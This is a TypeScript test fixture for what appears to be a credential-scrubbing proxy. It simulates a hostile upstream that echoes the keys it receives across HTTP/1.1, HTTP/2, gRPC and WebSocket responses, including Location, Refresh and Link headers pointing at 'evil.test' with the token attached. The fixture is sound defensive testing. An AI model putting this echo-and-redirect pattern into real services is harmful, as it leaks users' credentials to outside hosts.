// The hostile upstream: it shows the credential it was given, in every place an answer has and in every form, cut wherever it
// can be cut.
import type { ServerHttp2Stream } from "node:http2";
import * as zlib from "node:zlib";
import { type Field, valueOf } from "../e2e/harness/message.ts";
import type { Script, Scripted } from "../e2e/harness/upstream.ts";
import { pause } from "../e2e/harness/wait.ts";
import { acceptOf } from "../e2e/websocket-support.ts";
import { encoders } from "../scrub/encoders.ts";
import type { H2Script } from "./upstream-h2.ts";

type Valued = (name: string) => string | undefined;

/** The credentials of a request, as far as it has them. */
function credentialsIn(value: Valued): string[] {
  const bearer = value("authorization")?.replace(/^Bearer /, "");
  return [bearer, value("x-api-key"), value("x-sharp")].filter((one) => one !== undefined);
}

/** Every form of every credential. Those that break lines are for bodies only. */
function forms(values: readonly string[], place: "field" | "body"): string[] {
  const all = values.flatMap((value) => encoders.map(({ encode }) => encode(value)));
  return place === "body" ? all : all.filter((form) => !/[\r\n]/.test(form));
}

/** One field line for each form, and the fields that carry URLs and cookies. */
function fieldsOf(values: readonly string[]): Field[] {
  const fields = forms(values, "field").map((form, index): Field => [`X-Echo-${index}`, form]);
  const escaped = encodeURIComponent(values[0] ?? "");
  return [
    ...fields,
    ["Location", `https://evil.test/?token=${escaped}#${escaped}`],
    ["Refresh", `0; url=https://evil.test/${escaped}`],
    ["Link", `<https://evil.test/${escaped}>; rel=next`],
    ["Set-Cookie", `token=${escaped}; Path=/`],
    ["WWW-Authenticate", `Bearer error="invalid_token", error_description="${escaped}"`],
    ["ETag", `"${Buffer.from(values[0] ?? "").toString("hex")}"`],
  ];
}

const lines = (fields: readonly Field[]): string =>
  fields.map(([name, value]) => `${name}: ${value}\r\n`).join("");

/** Every form once, one after the other. */
const page = (values: readonly string[]): Buffer => Buffer.from(forms(values, "body").join(" \n"), "latin1");

/** Every form as often as it has bytes, each time cut behind another one. */
function* cuts(values: readonly string[]): Generator<Buffer> {
  for (const form of forms(values, "body")) {
    const bytes = Buffer.from(form, "latin1");
    for (let at = 1; at < bytes.length; at++) {
      yield bytes.subarray(0, at);
      yield Buffer.concat([bytes.subarray(at), Buffer.from("\n")]);
    }
  }
}

const codings: Readonly<Record<string, (body: Buffer) => Buffer>> = {
  gzip: (body) => zlib.gzipSync(body),
  deflate: (body) => zlib.deflateSync(body),
  br: (body) => zlib.brotliCompressSync(body),
  zstd: (body) => zlib.zstdCompressSync(body),
};
export const codingNames = Object.keys(codings);

async function values(request: Scripted): Promise<string[]> {
  await request.body();
  return credentialsIn((name) => valueOf(request.fields, name));
}

function send(request: Scripted, status: string, type: string, body: Buffer, ...more: Field[]): void {
  const fields: Field[] = [["Content-Type", type], ["Content-Length", String(body.length)], ...more];
  request.write(`HTTP/1.1 ${status}\r\n${lines(fields)}\r\n`);
  request.write(body);
}

async function chunked(
  request: Scripted,
  type: string,
  pieces: Iterable<Buffer>,
  trailers: readonly Field[] = [],
): Promise<void> {
  request.write(`HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n`);
  for (const piece of pieces) {
    request.write(
      Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")]),
    );
    if (request.socket.writableNeedDrain)
      await new Promise((resolve) => request.socket.once("drain", resolve));
  }
  request.write(`0\r\n${lines(trailers)}\r\n`);
}

const bytesOf = (body: Buffer): Buffer[] => Array.from(body, (byte) => Buffer.of(byte));

/** Places of an HTTP/1.1 answer, by path. */
export const places: Readonly<Record<string, Script>> = {
  "/echo/fields": async (request) => {
    const all = await values(request);
    send(request, `200 Hello ${all[0]}`, "text/plain", Buffer.from("fields"), ...fieldsOf(all));
  },
  "/echo/names": async (request) => {
    const all = (await values(request)).map((value): Field => [`X-${value.replace(/\W/g, "-")}`, "1"]);
    const [key = ""] = await values(request);
    send(request, "200 OK", "text/plain", Buffer.from("names"), ...all, [
      Buffer.from(key).toString("hex"),
      "1",
    ]);
  },
  "/echo/interim": async (request) => {
    const all = await values(request);
    request.write(
      `HTTP/1.1 103 Early ${all[0]}\r\n${lines(fieldsOf(all))}\r\nHTTP/1.1 102 Working\r\n${lines(fieldsOf(all))}\r\n`,
    );
    send(request, "200 OK", "text/plain", Buffer.from("interim"));
  },
  "/echo/body": async (request) => send(request, "200 OK", "text/html", page(await values(request))),
  "/echo/error": async (request) => {
    const all = await values(request);
    const body = { error: { message: `invalid key ${all[0]}`, headers: Object.fromEntries(request.fields) } };
    send(
      request,
      "401 Unauthorized",
      "application/json",
      Buffer.from(JSON.stringify(body)),
      ...fieldsOf(all),
    );
  },
  "/echo/redirect": async (request) => {
    const all = await values(request);
    send(request, "302 Found", "text/html", page(all), ...fieldsOf(all));
  },
  "/echo/untyped": async (request) => {
    const body = page(await values(request));
    request.write("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n");
    request.write(body);
    request.end();
  },
  "/echo/binary": async (request) =>
    send(request, "200 OK", "application/octet-stream", page(await values(request))),
  "/echo/trailers": async (request) => {
    const all = await values(request);
    await chunked(
      request,
      "text/plain",
      [Buffer.from("trailers")],
      fieldsOf(all).filter(([name]) => name.startsWith("X-")),
    );
  },
  "/echo/bytes": async (request) =>
    chunked(request, "application/json", bytesOf(page(await values(request)))),
  "/echo/cuts": async (request) => chunked(request, "text/plain", cuts(await values(request))),
  "/echo/events": async (request) => {
    const all = forms(await values(request), "body").filter((form) => !/[\r\n]/.test(form));
    await chunked(
      request,
      "text/event-stream",
      all.flatMap((form) => bytesOf(Buffer.from(`data: ${form}\n\n`, "latin1"))),
    );
  },
  "/echo/slow": async (request) => {
    // Across the time after which what was held back is flushed.
    const [key = ""] = await values(request);
    request.write("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n");
    const third = Math.ceil(key.length / 3);
    for (const part of [key.slice(0, third), key.slice(third, third * 2), key.slice(third * 2)]) {
      request.write(`${part.length.toString(16)}\r\n${part}\r\n`);
      await pause(40);
    }
    request.write("0\r\n\r\n");
  },
  ...Object.fromEntries(
    codingNames.flatMap((coding): [string, Script][] => [
      [
        `/echo/${coding}`,
        async (request) => {
          const body = (codings[coding] as (body: Buffer) => Buffer)(page(await values(request)));
          send(request, "200 OK", "text/plain", body, ["Content-Encoding", coding]);
        },
      ],
      [
        `/echo/${coding}/bytes`,
        async (request) => {
          const body = (codings[coding] as (body: Buffer) => Buffer)(page(await values(request)));
          request.write(
            `HTTP/1.1 200 OK\r\nContent-Encoding: ${coding}\r\nContent-Type: text/plain\r\nContent-Length: ${body.length}\r\n\r\n`,
          );
          for (const byte of bytesOf(body)) request.write(byte);
        },
      ],
    ]),
  ),
};

/** Places of an HTTP/2 answer. */
export const h2Places: Readonly<Record<string, H2Script>> = {
  "/echo/fields": (stream, headers) => {
    const all = credentialsIn((name) => headers[name]?.toString());
    const fields = Object.fromEntries(fieldsOf(all).map(([name, value]) => [name.toLowerCase(), value]));
    stream.additionalHeaders({ ":status": 103, ...fields });
    stream.respond({ ":status": 200, "content-type": "text/plain", ...fields }, { waitForTrailers: true });
    stream.on("wantTrailers", () =>
      stream.sendTrailers({ "x-trailer": all[0] ?? "", "grpc-message": encodeURIComponent(all[1] ?? "") }),
    );
    stream.end(page(all));
  },
  "/echo/cuts": (stream, headers) =>
    void frames(stream, "text/plain", [...cuts(credentialsIn((name) => headers[name]?.toString()))]),
  "/echo/grpc": (stream, headers) => {
    const all = credentialsIn((name) => headers[name]?.toString());
    const messages = forms(all, "body").flatMap((form) => {
      const bytes = Buffer.from(form, "latin1");
      const head = Buffer.alloc(5);
      head.writeUInt32BE(bytes.length, 1);
      return [head, bytes.subarray(0, 3), bytes.subarray(3)];
    });
    void frames(stream, "application/grpc", messages);
  },
};

/** Each piece in a DATA frame of its own. */
async function frames(stream: ServerHttp2Stream, type: string, pieces: readonly Buffer[]): Promise<void> {
  stream.respond({ ":status": 200, "content-type": type });
  for (const piece of pieces) {
    if (stream.destroyed) return;
    await new Promise((resolve) => stream.write(piece, resolve));
  }
  stream.end();
}

/** An unmasked frame (RFC 6455 section 5.2). */
export function wsFrame(opcode: number, payload: Buffer, isFinal = true, rsv = 0): Buffer {
  const long = payload.length > 125;
  const head = Buffer.alloc(long ? 4 : 2);
  head[0] = (isFinal ? 0x80 : 0) | rsv | opcode;
  head[1] = long ? 126 : payload.length;
  if (long) head.writeUInt16BE(payload.length, 2);
  return Buffer.concat([head, payload]);
}

/** Frames of every kind with every form, whole messages and messages cut at every byte, then an orderly close. */
export const socketEcho: Script = (request) => {
  const all = credentialsIn((name) => valueOf(request.fields, name));
  request.write(
    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${acceptOf(request.fields)}\r\n\r\n`,
  );
  const [text, binary, continuation, close, ping, pong] = [1, 2, 0, 8, 9, 10] as const;
  for (const form of forms(all, "body")) {
    const bytes = Buffer.from(form, "latin1");
    request.write(Buffer.concat([wsFrame(text, bytes), wsFrame(binary, bytes)]));
    for (const kind of [ping, pong]) if (bytes.length <= 125) request.write(wsFrame(kind, bytes));
    // A message in two frames, cut at every byte, and one in frames of a byte each.
    for (let at = 1; at < bytes.length; at++) {
      request.write(wsFrame(text, bytes.subarray(0, at), false));
      request.write(wsFrame(continuation, bytes.subarray(at)));
    }
    for (let at = 0; at < bytes.length; at++) {
      request.write(
        wsFrame(at === 0 ? binary : continuation, bytes.subarray(at, at + 1), at === bytes.length - 1),
      );
    }
  }
  request.write(
    wsFrame(close, Buffer.concat([Buffer.of(3, 232), Buffer.from(all[0] ?? "").subarray(0, 120)])),
  );
};
